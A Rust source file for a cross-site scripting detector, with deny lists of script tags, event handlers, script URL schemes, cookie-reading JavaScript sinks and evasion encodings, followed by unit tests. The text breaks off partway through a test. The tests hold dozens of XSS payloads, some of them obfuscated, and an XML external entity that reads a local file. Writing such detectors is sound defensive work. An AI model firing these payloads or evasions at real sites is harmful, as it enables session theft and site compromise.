//! Cross-site scripting: an HTML tag scanner that looks for what executes script, not for
//! markup as such.
//!
//! Plain formatting markup is allowed (`<b>`, `<i>`, `<em>`, `<strong>`, `<p>`, `<br>`, `<ul>`,
//! `<li>`, `<a href="https://...">`, `<img src="https://...">`, and any other tag), so a review
//! with `<b>bold</b>` passes. What is blocked:
//! - tags that run or load active content: `script`, `iframe`, `frame`, `frameset`, `object`,
//!   `embed`, `applet`, `base`, `meta`, `link`, `style`, `svg`, `math`, `template`, `isindex`,
//!   `import`, `vmlframe`, `xss`, `xml` (also with a namespace prefix, `<x:script>`);
//! - any event-handler attribute (`on...=`) on any tag, and client-side frameworks' event
//!   bindings (`ng-click=`, `@click=`, `v-on:`, `x-on:`, `hx-on`);
//! - script URLs (`javascript:`, `vbscript:`, `livescript:`, `data:text/html`,
//!   `data:image/svg+xml`) in a tag or as the whole value;
//! - CSS that runs script (`expression(`, `behavior:`, `-moz-binding`, `url(javascript:`);
//! - an attribute break-out (`" onmouseover=`) and JavaScript break-outs calling
//!   `alert`/`prompt`/`confirm`/`eval` or touching `document.cookie`-like sinks.
//!
//! - markup hidden in JavaScript string escapes (`\x3c`, `\u003c`) or with the high bit set
//!   (`\xbcscript\xbe`, as US-ASCII readers see it), and DTD entity declarations.
//!
//! The input is the canonical value with HTML entities decoded, lower-cased.

const DANGEROUS_TAGS: &[&[u8]] = &[
    b"script",
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"base",
    b"meta",
    b"link",
    b"style",
    b"svg",
    b"math",
    b"template",
    b"isindex",
    b"import",
    b"vmlframe",
    b"xss",
    b"xml",
    b"layer",
    b"ilayer",
    b"bgsound",
    b"handler",
    b"listener",
    b"animate",
    b"set",
    b"portal",
    b"noembed",
];

/// Event names for handlers written outside a tag (an attribute break-out), where a bare
/// `on...=` could be prose or a parameter.
const EVENTS: &[&[u8]] = &[
    b"abort",
    b"activate",
    b"afterprint",
    b"afterscriptexecute",
    b"animation",
    b"auxclick",
    b"beforecopy",
    b"beforecut",
    b"beforeprint",
    b"beforescriptexecute",
    b"beforeunload",
    b"begin",
    b"blur",
    b"bounce",
    b"canplay",
    b"change",
    b"click",
    b"close",
    b"contextmenu",
    b"copy",
    b"cut",
    b"dblclick",
    b"drag",
    b"drop",
    b"end",
    b"error",
    b"finish",
    b"focus",
    b"hashchange",
    b"input",
    b"invalid",
    b"key",
    b"load",
    b"message",
    b"mouse",
    b"move",
    b"pagehide",
    b"pageshow",
    b"paste",
    b"pointer",
    b"popstate",
    b"propertychange",
    b"readystatechange",
    b"repeat",
    b"reset",
    b"resize",
    b"scroll",
    b"search",
    b"select",
    b"show",
    b"start",
    b"submit",
    b"toggle",
    b"touch",
    b"transition",
    b"unload",
    b"wheel",
    b"filterchange",
    b"cuechange",
    b"durationchange",
    b"play",
    b"seek",
    b"timeupdate",
];

/// English words that start with `on` (after the `on`), which are not event names: `online=`,
/// `onion=`, `onboarding=` in a value are prose or parameters.
const ON_WORDS: &[&[u8]] = &[
    b"line",
    b"ion",
    b"ly",
    b"ce",
    b"e",
    b"to",
    b"set",
    b"ward",
    b"going",
    b"board",
    b"shore",
    b"screen",
    b"site",
    b"stage",
    b"coming",
    b"colog",
    b"erous",
    b"looker",
    b"rush",
    b"slaught",
    b"us",
    b"tolog",
    b"yx",
    b"ramp",
    b"demand",
    b"call",
    b"premise",
    b"boarding",
];

const SCRIPT_SCHEMES: &[&[u8]] = &[
    b"javascript:",
    b"vbscript:",
    b"livescript:",
    b"data:text/html",
    b"data:image/svg",
    b"data:application/x",
    b"data:text/xml",
    b"data:text/javascript",
    b"data:application/javascript",
    b"data:application/ecmascript",
];

pub(crate) const SINKS: &[&str] = &[
    "document.cookie",
    "document.write",
    "document.domain",
    "document.location",
    "window.location",
    ".innerhtml",
    ".outerhtml",
    "string.fromcharcode",
    "-moz-binding",
    "<![cdata[",
    ".constructor(",
    "settimeout(",
    "setinterval(",
    "import(",
    ".call`",
    ".apply`",
    "${alert",
    "${eval",
    "${prompt",
    "new function(",
    "reflect.apply",
    "reflect.construct",
    "top[",
    "self[",
    "window[",
    "location.href",
    "location.assign(",
    "location.replace(",
    "document.createelement(",
    "atob(",
    "btoa(",
    "globalthis[",
    "parent['",
    "parent[\"",
    "frames['",
    "frames[\"",
    "opener['",
    "opener[\"",
];

fn starts_with_ci(s: &[u8], p: &[u8]) -> bool {
    s.len() >= p.len() && s[..p.len()].eq_ignore_ascii_case(p)
}

/// Removes the characters a browser ignores inside a URL scheme (`java\tscript:`).
fn squeeze(s: &[u8], out: &mut Vec<u8>) {
    out.clear();
    out.extend(s.iter().copied().filter(|&c| c > b' '));
}

fn has_script_scheme(s: &[u8], tmp: &mut Vec<u8>) -> bool {
    if memchr::memchr(b':', s).is_none() || javascript_prose(s) {
        return false;
    }
    squeeze(s, tmp);
    let sq = &tmp[..];
    let mut from = 0;
    while let Some(p) = memchr::memchr(b':', &sq[from..]) {
        let colon = from + p;
        for sch in SCRIPT_SCHEMES {
            let name = &sch[..sch.iter().position(|&c| c == b':').unwrap_or(sch.len())];
            if colon >= name.len() && &sq[colon - name.len()..colon] == name {
                let start = colon - name.len();
                let prev_ok = start == 0 || !sq[start - 1].is_ascii_alphanumeric();
                if prev_ok && starts_with_ci(&sq[start..], sch) {
                    // `javascript:` must be followed by code, not prose (`javascript: the book`).
                    if name != b"javascript" || s_has_code_after(sq, colon + 1) {
                        return true;
                    }
                }
            }
        }
        from = colon + 1;
    }
    false
}

/// After `!entity`: `[%] name` then `system`, `public` or a quoted value, as a DTD declares one.
fn entity_declaration(s: &[u8]) -> bool {
    let Some(rest) = s
        .first()
        .filter(|c| c.is_ascii_whitespace())
        .map(|_| s.trim_ascii_start())
    else {
        return false;
    };
    let rest = rest
        .strip_prefix(b"%")
        .map_or(rest, |r| r.trim_ascii_start());
    let name = rest
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b':'))
        .count();
    let after = &rest[name..];
    if name == 0 || !after.first().is_some_and(|c| c.is_ascii_whitespace()) {
        return false;
    }
    let decl = after.trim_ascii_start();
    decl.starts_with(b"system") || decl.starts_with(b"public") || decl.starts_with(b"\"")
}

/// Whether `s` (trimmed) starts with an HTML comment's end (`-->`, `--!>`).
pub(crate) fn comment_breakout(s: &[u8]) -> bool {
    let t = s.trim_ascii_start();
    t.starts_with(b"-->") || t.starts_with(b"--!>")
}

/// `import <bindings> from "<path>"` or `import("<path>")`, where the module's path has a
/// `/` (a relative path or a URL: what loads code from somewhere). Bindings are `{...}`, `*
/// as x`, or a name; prose (`import it from 'Germany'`) names no path.
pub(crate) fn module_import(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = crate::find(&s[from..], b"import") {
        let at = from + p;
        from = at + 6;
        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'_' | b'$' | b'.'))
        {
            continue;
        }
        // `imported`, `important`: another word.
        if !s
            .get(at + 6)
            .is_some_and(|c| c.is_ascii_whitespace() || matches!(c, b'{' | b'(' | b'*'))
        {
            continue;
        }
        let rest = s[at + 6..].trim_ascii_start();
        let spec = if rest.first() == Some(&b'(') {
            rest[1..].trim_ascii_start()
        } else {
            let bound = match rest.first() {
                // Bounded windows: `import {import {...` must not rescan the rest each time.
                Some(b'{') => memchr::memchr(b'}', &rest[..rest.len().min(256)]).map(|q| q + 1),
                Some(b'*') => Some(1),
                Some(c) if c.is_ascii_alphabetic() || matches!(c, b'_' | b'$') => Some(
                    rest.iter()
                        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$'))
                        .count(),
                ),
                _ => None,
            };
            let Some(b) = bound else { continue };
            let after = &rest[b..];
            let Some(f) = crate::find(&after[..after.len().min(64)], b"from") else {
                continue;
            };
            after[f + 4..].trim_ascii_start()
        };
        let Some(&q) = spec.first().filter(|q| matches!(q, b'\'' | b'"' | b'`')) else {
            continue;
        };
        let body = &spec[1..spec.len().min(512)];
        if let Some(end) = memchr::memchr(q, body) {
            if memchr::memchr(b'/', &body[..end]).is_some() {
                return true;
            }
        }
    }
    false
}

/// The value with `\xHH` and `\u00HH` escapes turned into their bytes, when it has any.
fn js_unescape(s: &[u8]) -> Option<Vec<u8>> {
    let hex = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    let mut any = false;
    while i < s.len() {
        if s[i] == b'\\' {
            let digits = match s.get(i + 1) {
                Some(b'x') => Some((i + 2, 2)),
                Some(b'u') if s.get(i + 2..i + 4) == Some(b"00") => Some((i + 4, 2)),
                _ => None,
            };
            if let Some((at, _)) = digits {
                if let (Some(h), Some(l)) = (
                    s.get(at).copied().and_then(hex),
                    s.get(at + 1).copied().and_then(hex),
                ) {
                    out.push(((h << 4) | l).to_ascii_lowercase());
                    i = at + 2;
                    any = true;
                    continue;
                }
            }
        }
        out.push(s[i]);
        i += 1;
    }
    any.then_some(out)
}

/// The value as a US-ASCII reader sees it: stray bytes and Latin-1 characters (U+0080..U+00FF)
/// lose their high bit; other UTF-8 characters (`ü` is U+00FC and loses it too, but never turns
/// into `<`) are kept as they are.
fn seven_bit(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        let c = s[i];
        let cont = |k: usize| s.get(i + k).is_some_and(|n| n & 0xc0 == 0x80);
        let len = match c {
            0xc2 | 0xc3 if cont(1) => {
                let cp = ((c & 0x1f) << 6) | (s[i + 1] & 0x3f);
                out.push((cp & 0x7f).to_ascii_lowercase());
                i += 2;
                continue;
            }
            0xc4..=0xdf if cont(1) => 2,
            0xe0..=0xef if cont(1) && cont(2) => 3,
            0xf0..=0xf4 if cont(1) && cont(2) && cont(3) => 4,
            _ => 0,
        };
        if len > 0 {
            out.extend_from_slice(&s[i..i + len]);
            i += len;
        } else {
            out.push((c & 0x7f).to_ascii_lowercase());
            i += 1;
        }
    }
    out
}

/// `javascript: the good parts`: the scheme's name used as a title, followed by a blank and
/// plain words. Code after the blank (`javascript: alert(1)`, `javascript: \u0061`,
/// `javascript:  void 0;`) is not prose.
fn javascript_prose(s: &[u8]) -> bool {
    let Some(p) = crate::find(s, b"javascript: ") else {
        return false;
    };
    let rest = s[p + 12..].trim_ascii_start();
    let n = rest.iter().take_while(|c| c.is_ascii_alphabetic()).count();
    if n == 0 {
        // Punctuation or digits right after the blank: code, not a title.
        return rest.is_empty();
    }
    // A word followed by a call, member access, assignment or template, or `void`: code.
    let code_after = rest.get(n).is_some_and(|c| b"(.=[`;:\\".contains(c));
    !(code_after || rest[..n] == *b"void")
}

/// `data:[type][;base64],payload` whose payload is markup (`data:,<svg onload=..>`): a page
/// that loads it renders the markup.
fn data_url_with_markup(sq: &[u8]) -> bool {
    let Some(rest) = sq.strip_prefix(b"data:") else {
        return false;
    };
    let Some(comma) = memchr::memchr(b',', &rest[..rest.len().min(64)]) else {
        return false;
    };
    let payload = &rest[comma + 1..];
    memchr::memchr(b'<', payload)
        .is_some_and(|l| payload.get(l + 1).is_some_and(|c| c.is_ascii_alphabetic()))
}

fn s_has_code_after(sq: &[u8], at: usize) -> bool {
    sq.get(at)
        .is_some_and(|&c| c.is_ascii_alphanumeric() || b"(/['\"`{_$!+-~;\\".contains(&c))
}

fn is_tag_name_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b':' || c == b'-' || c == b'_'
}

/// Looks for an `on<letters>=` handler in a tag's attribute area.
fn has_handler(attrs: &[u8]) -> bool {
    framework_handler(attrs) || dom_handler(attrs)
}

/// Event bindings of client-side frameworks, which run their value as an expression: AngularJS
/// `ng-click=`/`data-ng-mouseover=`, Vue `v-on:click=`/`@click=`, Alpine `x-on:click=`, htmx
/// `hx-on:click=`/`hx-on::after-request=`.
fn framework_handler(attrs: &[u8]) -> bool {
    const PREFIXES: &[&[u8]] = &[
        b"ng-",
        b"data-ng-",
        b"x-ng-",
        b"v-on:",
        b"@",
        b"x-on:",
        b"hx-on",
    ];
    let mut i = 0;
    while i < attrs.len() {
        let at_name = i == 0 || attrs[i - 1].is_ascii_whitespace() || attrs[i - 1] == b'/';
        if at_name {
            for p in PREFIXES {
                if let Some(rest) = attrs[i..].strip_prefix(*p) {
                    let n = rest
                        .iter()
                        .take_while(|c| {
                            c.is_ascii_alphanumeric() || matches!(c, b'-' | b':' | b'.')
                        })
                        .count();
                    let name = &rest[..n];
                    let event =
                        p.starts_with(b"ng") || p.starts_with(b"data-") || p.starts_with(b"x-ng");
                    // AngularJS directives that evaluate: ng-click, ng-focus... ng-init.
                    let evaluates =
                        !event || name == b"init" || EVENTS.iter().any(|e| name.starts_with(e));
                    if n > 0 && evaluates && rest[n..].trim_ascii_start().first() == Some(&b'=') {
                        return true;
                    }
                }
            }
        }
        i += 1;
    }
    false
}

fn dom_handler(attrs: &[u8]) -> bool {
    let mut i = 0;
    while i + 2 < attrs.len() {
        if attrs[i] == b'o'
            && attrs[i + 1] == b'n'
            && (i == 0
                || !attrs[i - 1].is_ascii_alphanumeric()
                    && attrs[i - 1] != b'-'
                    && attrs[i - 1] != b'_')
        {
            let mut j = i + 2;
            while j < attrs.len() && (attrs[j].is_ascii_alphabetic() || attrs[j] == b'-') {
                j += 1;
            }
            if j > i + 2 {
                while j < attrs.len() && attrs[j].is_ascii_whitespace() {
                    j += 1;
                }
                if attrs.get(j) == Some(&b'=') {
                    return true;
                }
            }
        }
        i += 1;
    }
    false
}

fn dangerous_css(s: &[u8]) -> bool {
    let f = crate::find;
    f(s, b"expression(").is_some()
        || f(s, b"behavior:").is_some()
        || f(s, b"behaviour:").is_some()
        || f(s, b"-moz-binding").is_some()
        || f(s, b"url(javascript").is_some()
        || f(s, b"url(vbscript").is_some()
        || f(s, b"@import").is_some()
}

/// Attributes that load or run content whatever the tag: namespaces pulling in other markup,
/// form actions, inline documents.
const DANGEROUS_ATTRS: &[&[u8]] = &[
    b"xmlns",
    b"xlink:href",
    b"formaction",
    b"srcdoc",
    b"xsi:schemalocation",
    b"fscommand",
    b"seeksegmenttime",
];

fn has_attr(attrs: &[u8], name: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = crate::find(&attrs[from..], name) {
        let at = from + p;
        from = at + 1;
        let before_ok = at == 0
            || matches!(
                attrs[at - 1],
                b' ' | b'\t' | b'\n' | b'\r' | b'/' | b'"' | b'\''
            );
        let after = attrs[at + name.len()..].trim_ascii_start();
        if before_ok && (after.first() == Some(&b'=') || after.first() == Some(&b':')) {
            return true;
        }
    }
    false
}

/// A script scheme whose letters only line up once entities and blanks are removed.
fn obfuscated_scheme(raw: &[u8], s: &[u8], tmp: &mut Vec<u8>) -> bool {
    if memchr::memchr(b':', s).is_none() {
        return false;
    }
    squeeze(s, tmp);
    for scheme in [&b"javascript:"[..], b"vbscript:", b"livescript:"] {
        if crate::find(tmp, scheme).is_some()
            && crate::find(raw, scheme).is_none()
            && crate::find(s, scheme).is_none()
        {
            return true;
        }
    }
    false
}
/// `raw` is the value before HTML entities were decoded, `s` after (both lower-cased).
/// `hints`: the lexicon's hint words in `raw` ([`crate::lexicon::hint_bits`]).
pub(crate) fn detect(
    raw: &[u8],
    s: &[u8],
    js_hit: bool,
    hints: u8,
    tmp: &mut Vec<u8>,
) -> Option<&'static str> {
    detect_at(raw, s, js_hit, hints, tmp, 0)
}

/// `depth`: how many re-readings (JavaScript escapes, then the high bit) led here.
fn detect_at(
    raw: &[u8],
    s: &[u8],
    js_hit: bool,
    hints: u8,
    tmp: &mut Vec<u8>,
    depth: u8,
) -> Option<&'static str> {
    use crate::lexicon::{HINT_FUNCTION, HINT_IMPORT};
    // Entities (`&#105;mport`) can hide a hint word from the scan of the raw value.
    let hints = if raw.len() == s.len() { hints } else { 0xff };
    // JavaScript string escapes (`\x3csvg\x3e`, `\u003c`): a value written into a script
    // string becomes markup when the page puts that string into the document.
    if depth == 0 && memchr::memchr(b'\\', s).is_some() {
        if let Some(un) = js_unescape(s) {
            if let Some(r) = detect_at(&un, &un, false, 0xff, tmp, 1) {
                return Some(r);
            }
        }
    }
    // Markup with the high bit set (`\xbcscript\xbe`, or `¼script¾` once such bytes were read
    // as Latin-1): servers and browsers that read the page as US-ASCII drop that bit.
    if depth <= 1 && memchr::memchr(0xbc, s).is_some() {
        let seven = seven_bit(s);
        if seven.contains(&b'<') && detect_at(&seven, &seven, false, 0xff, tmp, 2).is_some() {
            return Some("xss-us-ascii");
        }
    }
    // A DTD entity declaration (`<!ENTITY x SYSTEM "file:///...">`, `<!ENTITY % p ...>`): the
    // start of XML external entity injection; no text or markup a shop takes declares one.
    if let Some(p) = crate::find(s, b"!entity") {
        if entity_declaration(&s[p + 7..]) {
            return Some("xss-xml-entity");
        }
    }
    // A value that starts by closing an HTML comment (`-->`, `--!>`): written into a page's
    // comment (debug output, templates that comment out a field), it ends the comment and
    // whatever follows is markup. Prose writes arrows between words, not as a value's start.
    if comment_breakout(s) {
        return Some("xss-comment-breakout");
    }
    // A JavaScript module import (`import {a} from "./x.js"`, `import("//host/x.js")`):
    // written into a script, it loads and runs a script of the attacker's choosing.
    if hints & HINT_IMPORT != 0 && module_import(s) {
        return Some("xss-js-import");
    }
    // UTF-7 markup (`+ADw-script+AD4-`), which old browsers decode.
    if memchr::memchr(b'+', s).is_some()
        && (crate::find(s, b"+adw-").is_some() || crate::find(s, b"+ad4-").is_some())
    {
        return Some("xss-utf7");
    }
    // A script scheme spelled with entities or blanks inside (`ja&tab;vascript:`) is never
    // prose: only an evasion writes it that way.
    if obfuscated_scheme(raw, s, tmp) {
        return Some("xss-script-url");
    }
    // Tags.
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'<', &s[from..]) {
        let lt = from + p;
        from = lt + 1;
        let mut i = lt + 1;
        while i < s.len() && i < lt + 4 && matches!(s[i], b'/' | b'<' | b'%' | b'?' | b':' | b'!') {
            i += 1;
        }
        let name_start = i;
        while i < s.len() && is_tag_name_char(s[i]) {
            i += 1;
        }
        if i == name_start || !s[name_start].is_ascii_alphabetic() {
            continue;
        }
        let full = &s[name_start..i];
        // `<x:script>`: the local name counts.
        let name = match full.iter().rposition(|&c| c == b':') {
            Some(c) => &full[c + 1..],
            None => full,
        };
        // A tag's attributes end at `>`, at the next `<`, or after 1 KiB: an unclosed `<a`
        // must not make every later `<` rescan the rest of the value.
        let window = &s[i..s.len().min(i + 1024)];
        let end = match memchr::memchr2(b'>', b'<', window) {
            Some(q) => i + q,
            None => i + window.len(),
        };
        let attrs = &s[i..end];
        let tag_boundary = i == s.len() || !is_tag_name_char(s[i]);
        if tag_boundary && DANGEROUS_TAGS.contains(&name) {
            return Some("xss-tag");
        }
        if has_handler(attrs) {
            return Some("xss-event-handler");
        }
        if name == b"include" || DANGEROUS_ATTRS.iter().any(|a| has_attr(attrs, a)) {
            return Some("xss-attribute");
        }
        if has_script_scheme(attrs, tmp) {
            return Some("xss-script-url");
        }
        if crate::find(attrs, b"style").is_some() && dangerous_css(attrs) {
            return Some("xss-css");
        }
    }
    // The whole value as a URL.
    let t = s.trim_ascii_start();
    let prose = javascript_prose(t);
    let has_colon = memchr::memchr(b':', t).is_some();
    if has_colon {
        squeeze(&t[..t.len().min(64)], tmp);
    }
    if has_colon && data_url_with_markup(tmp) {
        return Some("xss-script-url");
    }
    for sch in SCRIPT_SCHEMES.iter().filter(|_| has_colon) {
        if starts_with_ci(tmp, sch)
            && (sch != b"javascript:" || !prose && s_has_code_after(tmp, sch.len()))
        {
            return Some("xss-script-url");
        }
    }
    // A break-out of an attribute value: `" onmouseover=...`, `' autofocus onfocus=...`.
    let mut from = if memchr::memchr(b'=', s).is_some() {
        0
    } else {
        s.len()
    };
    while let Some(p) = crate::find(&s[from..], b"on") {
        let at = from + p;
        from = at + 2;
        let prev = if at == 0 { b' ' } else { s[at - 1] };
        if prev.is_ascii_alphabetic() {
            continue;
        }
        let rest = &s[at + 2..];
        // An unknown name (`onabcdefgh=`): browsers add events every year and ignore the
        // rest, so a name that is not an English word counts too, when it is 4 to 25 letters.
        let letters = rest.iter().take_while(|c| c.is_ascii_alphabetic()).count();
        let unknown =
            (4..=25).contains(&letters) && !ON_WORDS.iter().any(|w| rest[..letters].starts_with(w));
        if let Some(ev) = EVENTS
            .iter()
            .copied()
            .find(|e| rest.starts_with(e))
            .or_else(|| unknown.then_some(&rest[..letters]))
        {
            let mut j = ev.len();
            while j < rest.len() && rest[j].is_ascii_alphabetic() {
                j += 1;
            }
            while j < rest.len() && rest[j].is_ascii_whitespace() {
                j += 1;
            }
            if rest.get(j) == Some(&b'=') {
                let quoted_before = s[..at]
                    .iter()
                    .rev()
                    .take(32)
                    .any(|&c| c == b'"' || c == b'\'' || c == b'`');
                // `x.onerror=alert`: a handler assigned as a property in script.
                let property = prev == b'.' && !unknown;
                if quoted_before
                    || at == 0
                    || prev.is_ascii_whitespace()
                    || prev == b'/'
                    || property
                {
                    return Some("xss-attribute-breakout");
                }
            }
        }
    }
    // JavaScript sinks and break-outs: found by the lexicon in the value as it came, or here
    // once entities and blanks are gone (`[] . sort . call ``, `document&#46;cookie`).
    if js_hit {
        return Some("xss-js-sink");
    }
    let spaced_gadget = s.contains(&b' ') && s.iter().any(|c| b"[`$".contains(c));
    if raw != s || spaced_gadget {
        squeeze(s, tmp);
        for sink in SINKS {
            if crate::find(tmp, sink.as_bytes()).is_some() {
                return Some("xss-js-sink");
            }
        }
    }
    if (memchr::memchr(b':', s).is_some()
        || memchr::memchr(b'@', s).is_some() && crate::find(s, b"@import").is_some())
        && dangerous_css(s)
    {
        return Some("xss-css");
    }
    // JSFuck (`(![]+[])[+!+[]]`): JavaScript written with six characters only.
    if jsfuck(s) {
        return Some("xss-jsfuck");
    }
    // Calls need a parenthesis or a template literal.
    memchr::memchr2(b'(', b'`', s)?;
    for f in [&b"alert"[..], b"prompt", b"confirm", b"eval"] {
        let mut from = 0;
        while let Some(p) = crate::find(&s[from..], f) {
            let at = from + p;
            from = at + f.len();
            let before = s[..at].trim_ascii_end();
            let prev_ok = before
                .last()
                .is_none_or(|c| b";'\"`({=+|&>:,-*/!".contains(c));
            let after = s[at + f.len()..].trim_ascii_start();
            // Called directly, optionally (`alert?.(1)`), through a parenthesised reference
            // (`(alert)(1)`, `(0,eval)(x)`), or handed to an array method as its callback
            // (`[1].map(alert)`).
            let wrapped = before.last() == Some(&b'(') || before.ends_with(b",");
            let callback = before.last() == Some(&b'(')
                && after.first() == Some(&b')')
                && [
                    &b".map"[..],
                    b".foreach",
                    b".filter",
                    b".find",
                    b".some",
                    b".every",
                    b".then",
                ]
                .iter()
                .any(|m| before[..before.len() - 1].ends_with(m));
            let call = after.first().is_some_and(|&c| c == b'(' || c == b'`')
                || after.starts_with(b".call")
                || after.starts_with(b".apply")
                || after.starts_with(b"?.(")
                || wrapped && after.starts_with(b")(")
                || callback;
            if prev_ok && call && memchr::memchr2(b')', b'`', after).is_some() {
                return Some("xss-js-call");
            }
        }
    }
    // `Function("code")()`, `Function('a','b')`: the constructor compiles a string into code.
    let mut from = if hints & HINT_FUNCTION != 0 {
        0
    } else {
        s.len()
    };
    while let Some(p) = crate::find(&s[from..], b"function") {
        let at = from + p;
        from = at + 8;
        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_') {
            continue;
        }
        let after = s[at + 8..].trim_ascii_start();
        if let Some(arg) = after.strip_prefix(b"(") {
            if matches!(arg.trim_ascii_start().first(), Some(b'\'' | b'"' | b'`')) {
                return Some("xss-js-call");
            }
        }
    }
    None
}

/// A value written with JavaScript's six JSFuck characters (`[]()!+`) and blanks only, long
/// enough to be code (`![]+[]`), with an empty array negated or added.
fn jsfuck(s: &[u8]) -> bool {
    let t = s.trim_ascii();
    t.len() >= 6
        && t.iter()
            .all(|c| matches!(c, b'[' | b']' | b'(' | b')' | b'!' | b'+' | b' '))
        && (crate::find(t, b"![]").is_some() || crate::find(t, b"+[]").is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> Option<&'static str> {
        let l = s.to_ascii_lowercase();
        let mut h = Vec::new();
        crate::decode::html_entities_into(l.as_bytes(), &mut h);
        let r = crate::rules::Rules::new();
        let mut hits = Vec::new();
        r.lexicon.scan(l.as_bytes(), &mut hits);
        let js = hits.iter().any(|h| h.family == crate::lexicon::Family::Js);
        let hints = crate::lexicon::hint_bits(&hits);
        detect(l.as_bytes(), &h, js, hints, &mut Vec::new())
    }

    #[test]
    fn attacks() {
        for a in [
            "<script>alert(1)</script>",
            "<script >alert(1);</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert()>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "javascript:alert(document.cookie)",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">",
            "<iframe src=//evil>",
            "<div style=\"width: expression(alert(1))\">",
            "\";alert(1)//",
            "<body onload=alert(1)>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "<object data=x>",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
    }

    #[test]
    fn benign_look_alikes() {
        for b in [
            "<b>bold</b> and <i>italic</i>",
            "<p>Great shoes!<br>Would buy again</p>",
            "<a href=\"https://example.com/p/1\">link</a>",
            "<img src=\"https://cdn.example.com/a.png\" alt=\"photo\">",
            "I <3 this product",
            "price < 50 and > 20",
            "JavaScript: The Good Parts",
            "Turn it on = off switch",
            "one=1&two=2",
            "Set a price alert(s) for me",
            "Don't confirm (yet)",
            "online=true",
            "scripted drama",
            "**Markdown** _review_ with `code`",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn script_and_data_urls_after_a_blank() {
        for a in [
            "javascript: alert(1)",
            "javascript:  \\u0061lert(1)",
            "javascript: void(0);fetch('//x')",
            " data: , <img src=x onerror=alert(1)>",
            "data:text/plain,<svg/onload=alert(1)>",
            "<a href=\"javascript: top.x=1\">x</a>",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "JavaScript: The Good Parts",
            "javascript: the definitive guide, 7th edition",
            "Book: JavaScript: Understanding the Weird Parts",
            "data: 5 rows, <3 errors",
            "metadata: size, colour",
            "data:, none",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn markup_with_the_high_bit_set() {
        let mut seven = b"\xbcsvg onload=alert(7)\xbe".to_vec();
        assert!(detect(&seven, &seven, false, 0xff, &mut Vec::new()).is_some());
        // `ü` is c3 bc in UTF-8: valid text is never stripped.
        seven = "M\u{fc}nchen <3 gr\u{fc}n".as_bytes().to_vec();
        assert_eq!(detect(&seven, &seven, false, 0xff, &mut Vec::new()), None);
        seven = b"caf\xe9 \xbc50".to_vec();
        assert_eq!(detect(&seven, &seven, false, 0xff, &mut Vec::new()), None);
        seven = "\u{bc}iframe src=//x.example\u{be}".as_bytes().to_vec();
        assert!(detect(&seven, &seven, false, 0xff, &mut Vec::new()).is_some());
        for b in [
            "\u{bc} cup sugar, \u{be} cup flour",
            "\u{bc}in bolts, \u{bd} price",
            "\u{4e2d}\u{bc}",
        ] {
            seven = b.as_bytes().to_vec();
            assert_eq!(
                detect(&seven, &seven, false, 0xff, &mut Vec::new()),
                None,
                "{b}"
            );
        }
    }

    #[test]
    fn javascript_string_escapes() {
        for a in [
            "\\x3ciframe src=//h.example\\x3e",
            "\\u003cimg src=x onerror=alert(2)\\u003e",
            "\\xbcsvg onload=alert(3)\\xbe",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "C:\\xampp\\htdocs\\index.php",
            "\\x41\\x42 is AB",
            "path\\u0041\\temp",
            "\\x3c3 love it",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn dtd_entity_declarations() {
        for a in [
            "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>",
            "!ENTITY % p PUBLIC \"x\" \"http://h.example/x.dtd\"",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "Entity framework!",
            "the !entity tag",
            "Wow!Entity system",
            "best !entity in the public eye",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn indirect_calls() {
        for a in [
            "(confirm)(document.domain)",
            "x=prompt?.(1)",
            "[7].forEach(alert)",
            "(0,eval)('x')",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "Set a price (alert) (1 item)",
            "(alert) sound (loud)",
            "map (confirm) later",
            "confirm?. (yes)",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn framework_event_bindings() {
        for a in [
            "<div ng-click=$event.view.alert(1)>",
            "<p data-ng-init=\"x=1\">",
            "<button @click=\"fetch('//h.example')\">",
            "<a v-on:mouseover=\"x()\">",
            "<i x-on:focus=\"y\">",
        ] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "<div ng-class=\"big\">",
            "email me @ <b>home</b>",
            "<a href=\"https://example.com/@click\">x</a>",
            "reach us @click=here",
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn html_comment_breakout() {
        for a in ["-->", "--><img src=x>", " --!>", "-->=1"] {
            assert!(hit(a).is_some(), "missed: {a}");
        }
        for b in [
            "step 1 --> step 2",
            "A-->B",
            "<-- back",
            "--> ".trim_start_matches('-'),
        ] {
            assert_eq!(hit(b), None, "false positive: {b}");
        }
    }

    #[test]
    fn javascript_module_imports() {
        for a in [
